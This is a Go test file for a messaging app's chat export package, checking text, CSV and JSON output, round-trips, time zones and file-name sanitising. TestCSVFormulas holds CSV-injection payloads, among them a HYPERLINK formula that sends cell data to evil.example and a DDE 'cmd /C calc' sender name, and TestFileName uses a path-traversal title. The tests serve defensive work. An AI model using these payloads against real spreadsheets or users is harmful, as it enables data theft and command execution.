package chatexport_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"talksafe/views/chatexport"
)

var update = flag.Bool("update", false, "rewrite the golden files")

var seoul, _ = time.LoadLocation("Asia/Seoul")

// hardChat has what exports get wrong: Korean and emoji, names with
// brackets and commas, quotes, commas, tabs, CR/LF, lines that look like a
// day line or a message prefix, and a day change at Seoul's midnight.
func hardChat() (chatexport.Room, []chatexport.Message) {
	at := func(s string) time.Time {
		t, err := time.Parse(time.RFC3339, s)
		if err != nil {
			panic(err)
		}
		return t
	}
	room := chatexport.Room{ID: 7, Title: "Kim, [Jay] 김"}
	return room, []chatexport.Message{
		{ID: 1, SenderID: 10, Sender: "alice", Body: "first line of a message\na second line of the same message has no prefix", At: at("2026-11-21T05:37:05Z")},
		{ID: 2, SenderID: 11, Sender: "Kim, [Jay] 김", Body: "reply", At: at("2026-11-21T05:38:59Z")},
		{ID: 3, SenderID: 10, Sender: "alice", Body: `she said "hi", then left`, At: at("2026-11-21T14:59:59Z")},
		{ID: 4, SenderID: 11, Sender: "Kim, [Jay] 김", Body: "자정이 지났어 🌙\ttab\there", At: at("2026-11-21T15:00:00Z")},
		{ID: 5, SenderID: 10, Sender: "alice", Body: "windows\r\nline and a lone\rcarriage return", At: at("2026-11-22T00:00:00Z")},
		{ID: 6, SenderID: 11, Sender: "Kim, [Jay] 김", Body: "--------------- Sunday, November 22, 2026 ---------------\n[alice] [9:00 AM] not a real message", At: at("2026-11-22T03:04:05Z")},
		{ID: 7, SenderID: 10, Sender: "alice", Body: "👍🏽 — ok,,, \"\"", At: at("2026-11-23T02:00:00Z")},
	}
}

var saved = time.Date(2026, 11, 23, 5, 3, 28, 0, time.UTC)

func export(t testing.TB, f chatexport.Format, lang string, room chatexport.Room, msgs []chatexport.Message) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := chatexport.New(&buf, f, chatexport.Options{Lang: lang, Loc: seoul})
	if err := w.Begin(room, saved); err != nil {
		t.Fatal(err)
	}
	for _, m := range msgs {
		if err := w.Message(m); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.End(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestGolden(t *testing.T) {
	t.Parallel()
	room, msgs := hardChat()
	for _, tc := range []struct {
		name   string
		format chatexport.Format
		lang   string
	}{
		{"text-en.txt", chatexport.Text, "en"},
		{"text-ko.txt", chatexport.Text, "ko"},
		{"chat.csv", chatexport.CSV, "en"},
		{"chat.json", chatexport.JSON, "en"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := export(t, tc.format, tc.lang, room, msgs)
			path := filepath.Join("testdata", tc.name+".golden")
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run: go test ./views/chatexport -update)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("output differs from %s:\n--- got\n%s\n--- want\n%s", path, got, want)
			}
		})
	}
}

func TestEmptyChat(t *testing.T) {
	t.Parallel()
	room := chatexport.Room{ID: 1, Title: "bob"}
	if got := string(export(t, chatexport.Text, "en", room, nil)); got != "bob with talksafe Chats\r\nDate Saved : 2026-11-23 14:03:28\r\n\r\n" {
		t.Errorf("text: %q", got)
	}
	if got := string(export(t, chatexport.CSV, "en", room, nil)); got != "Date,User,Message\n" {
		t.Errorf("csv: %q", got)
	}
	var v struct{ Messages []any }
	if err := json.Unmarshal(export(t, chatexport.JSON, "en", room, nil), &v); err != nil || v.Messages == nil || len(v.Messages) != 0 {
		t.Errorf("json: %v %v", v, err)
	}
}

// parsed is a message as read back from an export.
type parsed struct {
	Sender, Body string
	At           time.Time
}

var (
	textMsg = regexp.MustCompile(`^\[(.*?)\] \[((?:1[0-2]|[1-9]):[0-5][0-9] [AP]M|오[전후] (?:1[0-2]|[1-9]):[0-5][0-9])\] (.*)$`)
	textDay = regexp.MustCompile(`^-{15} (.+) -{15}$`)
)

// parseText reads the text layout back as a reader of KakaoTalk exports
// does: a day line sets the date, "[name] [time] " starts a message, any
// other line continues the one before.
func parseText(t *testing.T, out []byte, lang string) (string, []parsed) {
	t.Helper()
	if !strings.HasSuffix(string(out), "\r\n") {
		t.Fatalf("the text does not end in CRLF: %q", out[max(0, len(out)-20):])
	}
	lines := strings.Split(strings.TrimSuffix(string(out), "\r\n"), "\r\n")
	for _, line := range lines {
		if strings.ContainsAny(line, "\r\n") {
			t.Fatalf("a line break that is not CRLF in %q", line)
		}
	}
	title := lines[0]
	var day time.Time
	var msgs []parsed
	for _, line := range lines[3:] {
		if m := textDay.FindStringSubmatch(line); m != nil {
			layout := "Monday, January 2, 2006"
			s := m[1]
			if lang == "ko" {
				layout = "2006년 1월 2일"
				s = s[:strings.LastIndex(s, " ")]
			}
			d, err := time.ParseInLocation(layout, s, seoul)
			if err != nil {
				t.Fatalf("day line %q: %v", line, err)
			}
			day = d
			continue
		}
		if m := textMsg.FindStringSubmatch(line); m != nil {
			clock := m[2]
			if lang == "ko" {
				clock = strings.Replace(strings.Replace(clock, "오전 ", "", 1), "오후 ", "", 1)
				if strings.HasPrefix(m[2], "오전") {
					clock += " AM"
				} else {
					clock += " PM"
				}
			}
			c, err := time.Parse("3:04 PM", clock)
			if err != nil {
				t.Fatalf("time %q: %v", m[2], err)
			}
			at := time.Date(day.Year(), day.Month(), day.Day(), c.Hour(), c.Minute(), 0, 0, seoul)
			msgs = append(msgs, parsed{Sender: m[1], Body: m[3], At: at})
			continue
		}
		if len(msgs) == 0 {
			t.Fatalf("a continuation line before any message: %q", line)
		}
		msgs[len(msgs)-1].Body += "\n" + line
	}
	return title, msgs
}

// parseCSV reads RFC 4180 strictly, keeping every byte of a quoted field.
func parseCSV(t testing.TB, out []byte) []parsed {
	t.Helper()
	s := string(out)
	if strings.Contains(s, "\r") {
		t.Fatalf("a CR in the CSV: %q", s)
	}
	if !strings.HasPrefix(s, "Date,User,Message\n") {
		t.Fatalf("header: %q", s[:min(len(s), 40)])
	}
	s = strings.TrimPrefix(s, "Date,User,Message\n")
	var msgs []parsed
	quoted := func() string {
		if s == "" || s[0] != '"' {
			t.Fatalf("want a quoted field at %q", s[:min(len(s), 20)])
		}
		var b strings.Builder
		i := 1
		for {
			j := strings.IndexByte(s[i:], '"')
			if j < 0 {
				t.Fatal("unterminated quoted field")
			}
			b.WriteString(s[i : i+j])
			i += j + 1
			if i < len(s) && s[i] == '"' {
				b.WriteByte('"')
				i++
				continue
			}
			s = s[i:]
			return b.String()
		}
	}
	for s != "" {
		date, rest, ok := strings.Cut(s, ",")
		if !ok {
			t.Fatalf("row without a comma: %q", s)
		}
		s = rest
		sender := quoted()
		s = strings.TrimPrefix(s, ",")
		body := quoted()
		if !strings.HasPrefix(s, "\n") {
			t.Fatalf("row does not end in LF: %q", s[:min(len(s), 20)])
		}
		s = s[1:]
		at, err := time.ParseInLocation("2006-01-02 15:04:05", date, seoul)
		if err != nil {
			t.Fatal(err)
		}
		msgs = append(msgs, parsed{Sender: sender, Body: body, At: at})
	}
	return msgs
}

func parseJSON(t testing.TB, out []byte) (string, []parsed) {
	t.Helper()
	var v struct {
		Name     string
		Type     string
		Messages []struct {
			ID           int64  `json:"id"`
			Date         string `json:"date"`
			DateUnixtime string `json:"date_unixtime"`
			From         string `json:"from"`
			FromID       string `json:"from_id"`
			Text         string `json:"text"`
		}
	}
	if err := json.Unmarshal(out, &v); err != nil {
		t.Fatalf("json: %v\n%s", err, out)
	}
	var msgs []parsed
	for _, m := range v.Messages {
		unix, err := strconv.ParseInt(m.DateUnixtime, 10, 64)
		if err != nil {
			t.Fatal(err)
		}
		at := time.Unix(unix, 0)
		if at.In(seoul).Format("2006-01-02T15:04:05") != m.Date {
			t.Fatalf("date %q and date_unixtime %q disagree", m.Date, m.DateUnixtime)
		}
		msgs = append(msgs, parsed{Sender: m.From, Body: m.Text, At: at})
	}
	return v.Name, msgs
}

func same(t testing.TB, what string, got []parsed, want []chatexport.Message, precision time.Duration) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: %d messages read back, want %d", what, len(got), len(want))
	}
	for i := range want {
		sender, body := want[i].Sender, want[i].Body
		if what == "csv" {
			sender, body = spreadsheetSafe(sender), spreadsheetSafe(body)
		}
		if got[i].Sender != sender || got[i].Body != body || !got[i].At.Equal(want[i].At.Truncate(precision)) {
			t.Fatalf("%s message %d: read back %+v, want %+v", what, i, got[i], want[i])
		}
	}
}

// spreadsheetSafe is a CSV cell as the export writes it: a leading ' when
// the text starts as a spreadsheet formula would (OWASP's CSV injection),
// and every line break (CRLF, CR) as LF.
func spreadsheetSafe(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		s = "'" + s
	}
	return strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\r", "\n")
}

func TestCSVFormulas(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 11, 21, 14, 37, 5, 0, seoul)
	room := chatexport.Room{ID: 1, Title: "x"}
	for body, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")`,
		"+1 555":     "'+1 555",
		"-2+3":       "'-2+3",
		"@SUM(A1)":   "'@SUM(A1)",
		"\t=1":       "'\t=1",
		"\r=1":       "'\n=1",
		"a=1":        "a=1",
		" =1":        " =1",
		"'=1":        "'=1",
		"2026-11-21": "2026-11-21",
	} {
		msgs := []chatexport.Message{{ID: 1, SenderID: 1, Sender: "=cmd|' /C calc'!A0", Body: body, At: at}}
		got := string(export(t, chatexport.CSV, "en", room, msgs))
		row := "2026-11-21 14:37:05,\"'=cmd|' /C calc'!A0\",\"" + want + "\"\n"
		if got != "Date,User,Message\n"+row {
			t.Errorf("%q: got %q, want the row %q", body, got, row)
		}
		// Text and JSON keep the message exactly.
		if text := string(export(t, chatexport.Text, "en", room, msgs)); !strings.Contains(text, "[=cmd|' /C calc'!A0] [2:37 PM] "+strings.ReplaceAll(body, "\r", "\r\n")+"\r\n") {
			t.Errorf("%q: text export changed it:\n%q", body, text)
		}
		if _, got := parseJSON(t, export(t, chatexport.JSON, "en", room, msgs)); got[0].Body != body {
			t.Errorf("%q: JSON export has %q", body, got[0].Body)
		}
	}
}

func TestMessengerName(t *testing.T) {
	t.Parallel()
	room := chatexport.Room{ID: 1, Title: "민지"}
	for _, tc := range []struct {
		name, korean string
		lang, want   string
	}{
		{"", "", "en", "민지 with talksafe Chats\r\n"},
		{"", "", "ko", "민지 님과 talksafe 대화\r\n"},
		{"KakaoTalk", "", "en", "민지 with KakaoTalk Chats\r\n"},
		{"KakaoTalk", "", "ko", "민지 님과 카카오톡 대화\r\n"},
		{"Kakao Talk", "", "ko", "민지 님과 카카오톡 대화\r\n"},
		{"Blue", "", "ko", "민지 님과 Blue 대화\r\n"},
		{"Blue", "블루톡", "ko", "민지 님과 블루톡 대화\r\n"},
		{"Blue\nTalk", "", "en", "민지 with Blue Talk Chats\r\n"},
	} {
		var buf bytes.Buffer
		w := chatexport.New(&buf, chatexport.Text, chatexport.Options{Lang: tc.lang, Loc: seoul,
			Messenger: chatexport.MessengerNamed(tc.name, tc.korean)})
		w.Begin(room, saved)
		w.End()
		if first, _, _ := strings.Cut(buf.String(), "Date Saved"); !strings.HasPrefix(buf.String(), tc.want) {
			t.Errorf("MessengerNamed(%q, %q) in %s: %q, want %q", tc.name, tc.korean, tc.lang, first, tc.want)
		}
	}
}

func TestExportID(t *testing.T) {
	t.Parallel()
	room := chatexport.Room{ID: 7, Title: "bob", ExportID: 4242}
	var v struct {
		ID       int64 `json:"id"`
		ExportID int64 `json:"export_id"`
	}
	if err := json.Unmarshal(export(t, chatexport.JSON, "en", room, nil), &v); err != nil || v.ExportID != 4242 || v.ID != 7 {
		t.Errorf("JSON: %+v %v", v, err)
	}
	if text := string(export(t, chatexport.Text, "en", room, nil)); strings.Contains(text, "4242") {
		t.Errorf("the text layout names the export id: %q", text)
	}
	at := time.Date(2026, 11, 21, 14, 3, 28, 0, seoul)
	if got := chatexport.FileName(room, chatexport.CSV, at, false); got != "talksafe_chat_bob_20261121_140328_export4242.csv" {
		t.Errorf("file name %q", got)
	}
}

func TestRoundTrip(t *testing.T) {
	t.Parallel()
	room, msgs := hardChat()
	t.Run("CSV", func(t *testing.T) {
		same(t, "csv", parseCSV(t, export(t, chatexport.CSV, "en", room, msgs)), msgs, time.Second)
	})
	t.Run("JSON", func(t *testing.T) {
		name, got := parseJSON(t, export(t, chatexport.JSON, "en", room, msgs))
		if name != room.Title {
			t.Errorf("name %q", name)
		}
		same(t, "json", got, msgs, time.Second)
	})
	// The text layout cannot carry a body line that looks like a day line or
	// a message prefix, nor a CR (it becomes a line break), nor seconds: the
	// README says so. Everything else reads back.
	for _, lang := range []string{"en", "ko"} {
		t.Run("Text-"+lang, func(t *testing.T) {
			var plain []chatexport.Message
			for _, m := range msgs {
				if m.ID != 5 && m.ID != 6 {
					plain = append(plain, m)
				}
			}
			title, got := parseText(t, export(t, chatexport.Text, lang, room, plain), lang)
			if !strings.HasPrefix(title, room.Title+" ") {
				t.Errorf("title %q", title)
			}
			same(t, "text", got, plain, time.Minute)
		})
	}
}

func FuzzCSVAndJSON(f *testing.F) {
	f.Add("hello", "alice")
	f.Add("a,b\r\n\"c\"\n\r", "Kim, [Jay]")
	f.Add("🌙\t자정", "\"q\"")
	f.Fuzz(func(t *testing.T, body, sender string) {
		if !utf8Valid(body) || !utf8Valid(sender) {
			return // not UTF-8: the database holds only UTF-8 text, so no message is like this
		}
		msgs := []chatexport.Message{
			{ID: 1, SenderID: 1, Sender: sender, Body: body, At: time.Unix(1763703425, 0)},
			{ID: 2, SenderID: 2, Sender: "b", Body: body + body, At: time.Unix(1763703485, 0)},
		}
		room := chatexport.Room{ID: 1, Title: sender}
		same(t, "csv", parseCSV(t, export(t, chatexport.CSV, "en", room, msgs)), msgs, time.Second)
		_, got := parseJSON(t, export(t, chatexport.JSON, "en", room, msgs))
		same(t, "json", got, msgs, time.Second)
	})
}

func utf8Valid(s string) bool {
	return strings.ToValidUTF8(s, "\uFFFD") == s && !strings.ContainsRune(s, 0)
}

func TestFileName(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 11, 21, 14, 3, 28, 0, seoul)
	for title, want := range map[string]string{
		"Bob Lee":        "talksafe_chat_Bob_Lee_20261121_140328.txt",
		"../../etc/pass": "talksafe_chat_etc_pass_20261121_140328.txt",
		"김민지":            "talksafe_chat_20261121_140328.txt",
		`a"b;c\r\nd`:     "talksafe_chat_a_b_c_r_nd_20261121_140328.txt",
	} {
		if got := chatexport.FileName(chatexport.Room{Title: title}, chatexport.Text, at, false); got != want {
			t.Errorf("FileName(%q) = %q, want %q", title, got, want)
		}
	}
	for title, want := range map[string]string{
		"김민지 (Minji)": "talksafe_chat_김민지_Minji_20261121_140328.txt",
		"../../김":     "talksafe_chat_김_20261121_140328.txt",
	} {
		if got := chatexport.FileName(chatexport.Room{Title: title}, chatexport.Text, at, true); got != want {
			t.Errorf("FileName(%q, unicode) = %q, want %q", title, got, want)
		}
	}
}

// stdlibJSONLine is one message of the JSON export as encoding/json writes
// it (HTML escaping off), the way the writer wrote it before it wrote the
// bytes itself.
func stdlibJSONLine(t testing.TB, m chatexport.Message, loc *time.Location) string {
	t.Helper()
	var buf bytes.Buffer
	enc := json.NewEncoder(&buf)
	enc.SetEscapeHTML(false)
	err := enc.Encode(struct {
		ID           int64  `json:"id"`
		Type         string `json:"type"`
		Date         string `json:"date"`
		DateUnixtime string `json:"date_unixtime"`
		From         string `json:"from"`
		FromID       string `json:"from_id"`
		Text         string `json:"text"`
	}{m.ID, "message", m.At.In(loc).Format("2006-01-02T15:04:05"), strconv.FormatInt(m.At.Unix(), 10),
		m.Sender, "user" + strconv.FormatInt(m.SenderID, 10), m.Body})
	if err != nil {
		t.Fatal(err)
	}
	return strings.TrimSuffix(buf.String(), "\n")
}

// TestSameBytesAsTheStandardLibrary: the writers format times and JSON
// strings themselves; every byte is what time.Format and encoding/json write.
func TestSameBytesAsTheStandardLibrary(t *testing.T) {
	t.Parallel()
	var bodies []string
	for c := range 0x80 {
		bodies = append(bodies, "a"+string(rune(c))+"b")
	}
	bodies = append(bodies, "", "\xff", "a\xc3", "\u2028\u2029", "<&>", `\"`, "🌙 자정", "\x7f", "\ufffd", "x\xed\xa0\x80y")
	room := chatexport.Room{ID: 1, Title: "x"}
	ny, _ := time.LoadLocation("America/New_York")
	at := time.Date(2026, 3, 8, 0, 0, 7, 0, time.UTC)
	for _, loc := range []*time.Location{seoul, ny, time.UTC} {
		var msgs []chatexport.Message
		for i, body := range bodies {
			msgs = append(msgs, chatexport.Message{ID: int64(i + 1), SenderID: int64(i * 7), Sender: body, Body: body,
				At: at.Add(time.Duration(i) * 47 * time.Minute)})
		}
		var buf bytes.Buffer
		w := chatexport.New(&buf, chatexport.JSON, chatexport.Options{Loc: loc})
		w.Begin(room, saved)
		for _, m := range msgs {
			w.Message(m)
		}
		w.End()
		lines := strings.Split(buf.String(), "\n")
		for i, m := range msgs {
			want := "  " + stdlibJSONLine(t, m, loc) + ","
			if i == len(msgs)-1 {
				want = strings.TrimSuffix(want, ",")
			}
			if got := lines[6+i]; got != want {
				t.Fatalf("%s: JSON line\n%q, encoding/json writes\n%q", loc, got, want)
			}
		}
		for _, lang := range []string{"en", "ko"} {
			var buf bytes.Buffer
			w := chatexport.New(&buf, chatexport.Text, chatexport.Options{Lang: lang, Loc: loc})
			w.Begin(room, saved)
			for minute := range 24 * 60 {
				w.Message(chatexport.Message{Sender: "a", Body: "b", At: at.Add(time.Duration(minute) * time.Minute)})
			}
			w.End()
			for minute := range 24 * 60 {
				local := at.Add(time.Duration(minute) * time.Minute).In(loc)
				clock := local.Format("3:04 PM")
				if lang == "ko" {
					clock = map[bool]string{true: "오후 ", false: "오전 "}[local.Hour() >= 12] + local.Format("3:04")
				}
				if !strings.Contains(buf.String(), "[a] ["+clock+"] b\r\n") {
					t.Fatalf("%s %s: no line at %s", loc, lang, clock)
				}
			}
		}
		buf.Reset()
		w = chatexport.New(&buf, chatexport.CSV, chatexport.Options{Loc: loc})
		w.Begin(room, saved)
		for s := range 3000 {
			w.Message(chatexport.Message{Sender: "a", Body: "b", At: at.Add(time.Duration(s) * 61 * time.Second)})
		}
		w.End()
		rows := strings.Split(strings.TrimSuffix(buf.String(), "\n"), "\n")[1:]
		for s, row := range rows {
			if want := at.Add(time.Duration(s)*61*time.Second).In(loc).Format("2006-01-02 15:04:05") + `,"a","b"`; row != want {
				t.Fatalf("%s: CSV row %q, want %q", loc, row, want)
			}
		}
	}
}
